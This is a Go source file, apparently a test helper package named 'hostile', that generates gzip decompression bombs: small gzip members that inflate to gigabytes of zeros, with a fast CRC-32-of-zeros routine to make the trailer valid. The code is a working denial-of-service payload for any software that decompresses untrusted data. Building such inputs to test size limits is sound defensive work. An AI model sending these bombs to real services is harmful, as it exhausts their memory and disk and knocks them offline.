package hostile

import (
	"bytes"
	"compress/flate"
	"encoding/binary"
	"hash/crc32"
	"io"
	"sync"
)

// A gzip bomb is a gzip member of zeros. Deflate codes a run of zeros at
// about 1/1030 of its size, so 10 GB inflate from about 10 MB. The member is
// never built: one compressed segment that inflates to bombSegment zeros (a
// flushed, byte-aligned run of non-final blocks) is repeated, then a final
// empty block and the trailer (CRC-32 and size of the zeros) close it.
const bombSegment = 1 << 20

var bomb struct {
	once    sync.Once
	first   []byte // deflate blocks for bombSegment zeros from an empty window
	segment []byte // the same, coded against a window of zeros: repeatable
}

// bombSegments returns the first deflate segment and the one to repeat.
func bombSegments() (first, repeat []byte) {
	bomb.once.Do(func() {
		zeros := make([]byte, bombSegment)
		var out bytes.Buffer
		zw, _ := flate.NewWriter(&out, flate.BestCompression)
		// The first segment primes the window; the second is coded against
		// a window of zeros, as every later copy is.
		_, _ = zw.Write(zeros)
		_ = zw.Flush()
		n := out.Len()
		_, _ = zw.Write(zeros)
		_ = zw.Flush()
		bomb.first = append([]byte(nil), out.Bytes()[:n]...)
		bomb.segment = append([]byte(nil), out.Bytes()[n:]...)
	})
	return bomb.first, bomb.segment
}

// writeBomb writes a gzip member that inflates to about size zeros (rounded
// up to whole segments, at least two) and returns the compressed size
// written, or the first write error.
func writeBomb(w io.Writer, size int64) (int64, error) {
	first, seg := bombSegments()
	n := max(2, (size+bombSegment-1)/bombSegment)
	var written int64
	put := func(b []byte) error {
		k, err := w.Write(b)
		written += int64(k)
		return err
	}
	// gzip header: magic, deflate, no flags, no mtime, max compression, unknown OS.
	if err := put([]byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255}); err != nil {
		return written, err
	}
	if err := put(first); err != nil {
		return written, err
	}
	for i := int64(1); i < n; i++ {
		if err := put(seg); err != nil {
			return written, err
		}
	}
	total := n * bombSegment
	var trailer [10]byte
	trailer[0], trailer[1] = 0x03, 0x00 // a final, empty, fixed-Huffman block
	binary.LittleEndian.PutUint32(trailer[2:], crcZeros(total))
	binary.LittleEndian.PutUint32(trailer[6:], uint32(total))
	err := put(trailer[:])
	return written, err
}

// bombLength is how many bytes writeBomb(w, size) writes.
func bombLength(size int64) int64 {
	first, seg := bombSegments()
	n := max(2, (size+bombSegment-1)/bombSegment)
	return 10 + int64(len(first)) + (n-1)*int64(len(seg)) + 10
}

// crcZeros is the CRC-32 (IEEE) of n zero bytes, in O(log n): feeding a zero
// byte is a linear map of the CRC register, so n of them are that map's n-th
// power, taken by squaring.
func crcZeros(n int64) uint32 {
	// step is the register after one zero byte, as a matrix whose column i
	// is the image of bit i.
	var step gf2Matrix
	for i := range 32 {
		v := uint32(1) << i
		step[i] = crc32.IEEETable[byte(v)] ^ v>>8
	}
	reg := ^uint32(0)
	for p := step; n > 0; n >>= 1 {
		if n&1 != 0 {
			reg = p.apply(reg)
		}
		p = p.mul(p)
	}
	return ^reg
}

type gf2Matrix [32]uint32

func (m *gf2Matrix) apply(v uint32) uint32 {
	var out uint32
	for i := 0; v != 0; i, v = i+1, v>>1 {
		if v&1 != 0 {
			out ^= m[i]
		}
	}
	return out
}

// mul returns m∘o (apply o, then m).
func (m gf2Matrix) mul(o gf2Matrix) gf2Matrix {
	var out gf2Matrix
	for i := range 32 {
		out[i] = m.apply(o[i])
	}
	return out
}
